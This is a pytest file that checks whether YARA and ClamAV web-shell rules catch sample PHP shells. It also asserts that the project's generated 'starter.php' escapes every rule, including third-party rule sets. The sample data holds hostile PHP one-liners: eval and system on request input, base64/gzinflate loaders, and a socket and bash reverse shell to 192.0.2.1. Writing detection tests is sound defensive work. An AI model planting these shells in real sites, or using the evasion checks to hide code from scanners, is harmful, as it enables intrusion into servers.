"""Scanners for malware and the starter: what they know web shells by is not in it."""

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from controller.panels.cpanel.start.starter import Starter

RULES = Path(__file__).with_name("web_shells.yar")
#: Folders with more rules (`*.yar`), separated by colons, such as those of the package `ludvig`.
MORE = "SHOPLAUNCH_TEST_YARA_RULES"
SECONDS = 300
#: rule -> what it is for, so that a rule that finds nothing is seen.
SAMPLES = {
    "code_from_the_request": ["<?php eval($_POST['a']);", "<?php include($_GET['f']);", "<?php @assert($_REQUEST[0]);"],
    "command_from_the_request": ["<?php system($_GET['c']);", "<?php echo `{$_GET['c']}`;", "<?php exec(getenv('A'));"],
    "function_by_name": ["<?php $f('id');", "<?php $_GET['f']($_GET['a']);", "<?php call_user_func($f, 'id');"],
    "decoded_code": [
        "<?php eval(gzinflate(base64_decode('x')));",
        "<?php echo chr(97).chr(98).chr(99).'';",
        "<?php preg_replace('/a/ie', $b, 'a');",
    ],
    "line_to_elsewhere": ["<?php $s = fsockopen('192.0.2.1', 4444);", "<?php exec('bash -i >& /dev/tcp/192.0.2.1/1');"],
    "takes_files": ["<?php move_uploaded_file($a, $b);", "<?php file_put_contents('x.php', $c);"],
    "known_by_name": ["<?php /* c99shell */", "<?php echo 'WSO 2.5';", "<?php echo shell_exec('uname -a');"],
}


def yara(rules, file):
    """Return the names of the rules of the file `rules` that YARA finds in `file`."""
    command = ["yara", "--no-warnings", str(rules), str(file)]
    done = subprocess.run(command, capture_output=True, text=True, check=True, timeout=SECONDS)
    return {line.split()[0] for line in done.stdout.splitlines()}


def clamav(rules, file):
    """Return the same as ClamAV finds it; it comes without signatures of its own."""
    command = ["clamscan", "--no-summary", "--allmatch", f"--database={rules}", str(file)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=SECONDS)
    assert done.returncode in (0, 1), done.stdout + done.stderr
    found = [line.rpartition(": ")[2].split()[0] for line in done.stdout.splitlines() if line.endswith(" FOUND")]
    return {name.removeprefix("YARA.").removesuffix(".UNOFFICIAL") for name in found}


@pytest.fixture(params=["yara", "clamscan"])
def found_by(request):
    """What tells by which rules a scanner knows a file."""
    if shutil.which(request.param) is None:
        package = {"yara": "yara", "clamscan": "clamav"}[request.param]
        pytest.skip(f"no {request.param} here (Debian's package {package})")
    return {"yara": yara, "clamscan": clamav}[request.param]


@pytest.fixture
def starter(tmp_path):
    """A starter's file."""
    path = tmp_path / "starter.php"
    path.write_bytes(Starter(b"key", "abcdefgh", 1).content("demo", "/home/demo"))
    return path


@pytest.mark.parametrize("rule", SAMPLES)
def test_what_web_shells_are_known_by_is_found_in_them(found_by, rule, tmp_path):
    for number, sample in enumerate(SAMPLES[rule]):
        path = tmp_path / f"{number}.php"
        path.write_text(sample + "\n")
        assert rule in found_by(RULES, path), sample


def test_the_starter_is_known_by_none_of_them(found_by, starter):
    assert found_by(RULES, starter) == set()


def test_nor_by_rules_of_others(starter):
    folders = [Path(folder) for folder in os.environ.get(MORE, "").split(":") if folder]
    if shutil.which("yara") is None or not folders:
        pytest.skip(f"no yara here, or no rules of others in {MORE}")
    rules = sorted(path for folder in folders for path in folder.rglob("*.yar"))
    assert rules
    assert {str(path): found for path in rules if (found := yara(path, starter))} == {}
